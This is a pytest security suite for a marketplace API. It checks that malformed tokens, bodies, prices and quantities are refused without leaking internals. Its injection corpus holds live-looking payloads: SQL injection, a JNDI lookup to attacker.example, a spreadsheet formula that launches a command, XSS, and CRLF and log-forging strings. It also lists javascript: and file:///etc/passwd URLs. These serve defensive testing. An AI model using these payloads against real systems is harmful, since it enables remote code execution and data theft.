"""28, 30, 33, 37: hostile input is refused with one clear error, breaks nothing and is told to nobody else."""

import base64
import secrets
import time
from typing import Any

import httpx
import pytest

from cli.rest import Rest, RestError
from tests.goods import ADDRESS, a_buyer
from tests.security.conftest import Town
from tests.security.wire import bearer, reason_of
from tests.stack_process import Stack

INT64_MAX, INT64_MIN = 2**63 - 1, -(2**63)
_TOLD = ("Traceback", 'File "', "asyncpg", "sqlalchemy", "psycopg", "SELECT ", "grpc.aio", "Exception", ".py", "/mesh/")


def token(key: str) -> str:
    return base64.urlsafe_b64encode(key.encode()).decode().rstrip("=")


KEYS = [
    "[NaN]", "[1e999]", "[]", "[null]", "[true]", "[{}]", "[[]]", "{}", '"x"', "[" * 700,
    f"[{10**30}]", f"[-{10**30}]", '["\\u0000"]', '["\\ud800"]', '["a"]', '["%s"]' % ("x" * 300),
    '["\\u0000","00000000-0000-0000-0000-000000000000"]',
    f'[{10**30},"00000000-0000-0000-0000-000000000000"]',
    "[\"' OR 1=1 --\"]",
]  # fmt: skip
LISTS = [
    "/products?orderBy=newest", "/products?orderBy=title", "/products?orderBy=price", "/orders", "/users/addresses",
    "/notifications", "/payments/refunds", "/shops/mine", "/shops/{shop}/orders", "/shops/{shop}/products",
    "/inventory/{variant}/movements", "/shops/{shop}/payouts", "/users", "/shops", "/admin/orders", "/admin/audit",
    "/admin/ledger/postings",
]  # fmt: skip


def whose(path: str, town: Town) -> str:
    if path.startswith("/admin") or path in {"/users", "/shops"}:
        return town.admin.token
    return town.goods.seller.token


@pytest.mark.parametrize("path", LISTS)
def test_a_page_token_of_the_callers_own_making_is_refused(http: httpx.Client, town: Town, path: str) -> None:
    place = path.format(shop=town.goods.shop_id, variant=town.goods.variant_id)
    join = "&" if "?" in place else "?"
    for key in KEYS:
        answer = http.get(f"{place}{join}pageToken={token(key)}", headers=bearer(whose(path, town)))
        # A key that could be one is a place in the list where nothing is.
        assert answer.status_code in {200, 400}, (key, answer.text)
        assert answer.status_code == 200 or reason_of(answer) in {"INVALID_PAGE_TOKEN", "INVALID_FIELDS"}, answer.text


@pytest.mark.parametrize("path", LISTS)
def test_a_page_is_never_larger_than_100(http: httpx.Client, town: Town, path: str) -> None:
    place = path.format(shop=town.goods.shop_id, variant=town.goods.variant_id)
    join = "&" if "?" in place else "?"
    mine = bearer(whose(path, town))
    assert http.get(f"{place}{join}pageSize=2147483647", headers=mine).status_code == 200
    for size in ("-1", "2147483648", "x", "1e9"):
        assert http.get(f"{place}{join}pageSize={size}", headers=mine).status_code == 400


BODIES: dict[str, bytes] = {
    "deep list": b'{"variantId":' + b"[" * 1000 + b"]" * 1000 + b"}",
    "deep object": b'{"a":' * 1000 + b"1" + b"}" * 1000,
    "no end": b'{"variantId":"',
    "no text": b'{"variantId":"\xff\xfe"}',
    "lone surrogate": b'{"variantId":"\\ud800"}',
    "nul": b'{"variantId":"\\u0000"}',
    "list": b"[]",
    "number": b"1",
    "null": b"null",
    "twice": b'{"quantity":1,"quantity":2}',
    "big number": b'{"quantity":1e309}',
    "fraction": b'{"quantity":1.5}',
    "many fields": b'{"variantId":"x",' + b",".join(b'"f%d":1' % n for n in range(20_000)) + b"}",
}


@pytest.mark.parametrize("name", BODIES)
def test_a_malformed_body_is_400_and_tells_nothing_of_the_inside(http: httpx.Client, town: Town, name: str) -> None:
    headers = bearer(town.stranger.token) | {"content-type": "application/json"}
    started = time.monotonic()
    answer = http.post("/cart/items", content=BODIES[name], headers=headers)
    assert answer.status_code == 400, answer.text
    assert reason_of(answer)
    assert not any(word in answer.text for word in _TOLD)
    assert time.monotonic() - started < 10


def test_limits_of_size(http: httpx.Client, town: Town) -> None:
    mine = bearer(town.goods.seller.token)
    assert http.post("/cart/items", json={"variantId": "x" * (1 << 20)}, headers=mine).status_code == 413
    long = {"shopId": town.goods.shop_id, "title": "x" * 10_000, "variants": [variant(1)]}
    assert http.post("/products", json=long, headers=mine).status_code == 400
    many = {"shopId": town.goods.shop_id, "title": "x", "variants": [variant(1)] * 2_000}
    assert http.post("/products", json=many, headers=mine).status_code == 400
    wide = {
        "shopId": town.goods.shop_id,
        "title": "x",
        "variants": [variant(1)],
        "attributes": dict.fromkeys(map(str, range(5000)), "x"),
    }
    assert http.post("/products", json=wide, headers=mine).status_code == 400
    assert http.get("/products", headers={"x-large": "x" * 40_000}).status_code in {400, 431}
    assert http.get("/products?categoryId=" + "x" * 5_000).status_code == 400


def variant(amount: int, currency: str = "EUR") -> dict[str, Any]:
    return {"sku": secrets.token_hex(6), "price": {"currency": currency, "amount": str(amount)}, "stock": 5}


@pytest.mark.parametrize(
    ("amount", "currency"),
    [
        (-1, "EUR"),
        (INT64_MIN, "EUR"),
        (INT64_MAX, "EUR"),
        (10**12 + 1, "EUR"),
        (1, "ABC"),
        (1, "eur"),
        (1, "JPY"),
        (1, ""),
    ],
)
def test_a_price_that_is_none_is_refused(http: httpx.Client, town: Town, amount: int, currency: str) -> None:
    body = {"shopId": town.goods.shop_id, "title": "x", "variants": [variant(amount, currency)]}
    answer = http.post("/products", json=body, headers=bearer(town.goods.seller.token))
    assert answer.status_code == 400, answer.text


def test_the_dearest_cart_still_adds_up(rest: Rest, town: Town) -> None:
    """A price that a seller raises to the utmost must not make the carts that hold it unreadable."""
    body = {"shopId": town.goods.shop_id, "title": "Dear", "variants": [variant(10**12)]}
    product = rest.call("POST", "/products", body, account=town.goods.seller)
    buyer = a_buyer(rest)
    item = {"variantId": product["variants"][0]["variantId"], "quantity": 999}
    cart = rest.call("POST", "/cart/items", item, account=buyer)
    assert cart["total"]["amount"] == str(999 * 10**12)
    rest.call("DELETE", f"/products/{product['productId']}", account=town.goods.seller)


@pytest.mark.parametrize("quantity", [0, -1, 1000, 2**31 - 1, 2**31, INT64_MAX, 1.5, "x"])
def test_a_quantity_that_is_none_is_refused(http: httpx.Client, town: Town, quantity: object) -> None:
    body = {"variantId": town.goods.variant_id, "quantity": quantity}
    assert http.post("/cart/items", json=body, headers=bearer(town.stranger.token)).status_code == 400


@pytest.mark.parametrize(
    ("amount", "currency"), [(0, "EUR"), (-1, "EUR"), (INT64_MIN, "EUR"), (INT64_MAX, "EUR"), (1, "ABC"), (1, "USD")]
)
def test_neither_an_order_nor_a_refund_takes_another_price(
    http: httpx.Client, rest: Rest, town: Town, amount: int, currency: str
) -> None:
    key = {"idempotency-key": secrets.token_hex(8)}
    money = {"currency": currency, "amount": str(amount)}
    buyer = a_buyer(rest, town.goods)
    order = {
        "shippingAddress": ADDRESS,
        "payments": [{"provider": "stripe", "token": "pm_card_visa"}],
        "expectedTotal": money,
    }
    assert http.post("/orders", json=order, headers=key | bearer(buyer.token)).status_code == 400
    payment_id = town.order["payments"][0]["paymentId"]
    refund = {"amount": money, "reason": "x"}
    answer = http.post(f"/payments/{payment_id}:refund", json=refund, headers=key | bearer(town.goods.seller.token))
    assert answer.status_code == 400, answer.text
    assert rest.call("GET", "/cart", account=buyer)["itemCount"] == 1


CORPUS = [
    "'; DROP TABLE users; --",
    '" OR ""="',
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}<%= 7*7 %>",
    '"}\n{"level": "error", "message": "forged"}',
    "\r\nSet-Cookie: a=b",
    "%s%n%x%d",
    "=cmd|' /C calc'!A0",
    "\u202egnp.exe",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "=?utf-8?q?=0aBcc=3a_attacker=40example.com?=",
]


@pytest.mark.parametrize("text", CORPUS)
def test_text_is_kept_as_text(stack: Stack, http: httpx.Client, town: Town, text: str) -> None:
    """Whatever is written comes back as it was, in JSON; no line of a log begins with it."""
    mine = bearer(town.other_goods.seller.token)
    changed = http.patch(
        f"/products/{town.other_goods.product_id}", json={"title": f"a {text}", "brand": text}, headers=mine
    )
    assert changed.status_code == 200, changed.text
    shown = http.get(f"/products/{town.other_goods.product_id}")
    assert shown.headers["content-type"] == "application/json"
    assert shown.json()["title"] == f"a {text}".strip()
    for path in ("/products?categoryId=", "/orders?status=", "/products/"):
        answer = http.get(
            path + httpx.QueryParams({"x": text})["x"].replace("\r\n", " ").replace("\n", " "), headers=mine
        )
        assert answer.status_code in {400, 404}, answer.text
    for log in (stack.home.root / "logs").glob("worker-*.log"):
        assert '"message": "forged"' not in {line[:40] for line in log.read_text().splitlines()}


HTML = "<p onclick=x>Hi</p><script>x</script><img src=x onerror=y><a href='javascript:x'>l</a><svg onload=x><iframe>"
_RUNS = ("script", "onerror", "onclick", "onload", "iframe")


def test_html_that_could_run_is_cleaned_when_it_is_written(rest: Rest, town: Town) -> None:
    goods = town.goods
    product = rest.call("PATCH", f"/products/{goods.product_id}", {"description": HTML}, account=goods.seller)
    assert not any(
        word in product["description"].lower() for word in ("script", "onerror", "onclick", "onload", "iframe")
    )


_NO_PICTURES = [
    "javascript:alert(1)", "JaVaScRiPt:x", "\tjavascript:x", "data:text/html,x", "file:///etc/passwd",
    "//attacker.example/x", "/\\attacker.example", "http://",
]  # fmt: skip


@pytest.mark.parametrize("url", _NO_PICTURES)
def test_a_picture_is_behind_http_or_on_this_market(rest: Rest, town: Town, url: str) -> None:
    with pytest.raises(RestError) as refused:
        rest.call("PATCH", f"/products/{town.goods.product_id}", {"images": [{"url": url}]}, account=town.goods.seller)
    assert refused.value.status == 400


def test_errors_of_every_kind_tell_nothing_of_the_inside(http: httpx.Client, town: Town) -> None:
    mine = bearer(town.stranger.token)
    paths = (
        "/orders/x",
        "/orders/'",
        "/products/%00",
        "/users/1",
        "/inventory/x",
        "/shops/x/orders/y",
        "/orders?status=x",
    )
    for path in paths:
        answer = http.get(path, headers=mine)
        assert 400 <= answer.status_code < 500, (path, answer.text)
        assert not any(word in answer.text for word in _TOLD), answer.text
